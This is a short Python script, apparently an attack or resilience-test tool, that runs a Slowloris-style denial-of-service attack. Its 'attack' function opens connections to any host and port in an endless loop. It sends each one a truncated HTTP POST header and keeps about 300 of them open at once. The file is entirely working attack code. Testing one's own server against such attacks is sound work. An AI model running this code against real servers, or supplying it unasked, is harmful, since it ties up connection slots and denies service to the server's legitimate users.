"""Connects again and again, sends half the head of a request, and goes away or stays."""

import asyncio

CONNECTIONS = 300
HALF_HEAD = b"POST /messages HTTP/1.1\r\nHost: localhost\r\nContent-Le"
PAUSE_SECONDS = 0.02


async def attack(host: str, port: int) -> None:
    connections: list[asyncio.StreamWriter] = []
    while True:
        _reader, writer = await asyncio.open_connection(host, port)
        writer.write(HALF_HEAD)
        connections.append(writer)
        if len(connections) > CONNECTIONS:
            connections.pop(0).close()
            await asyncio.sleep(PAUSE_SECONDS)
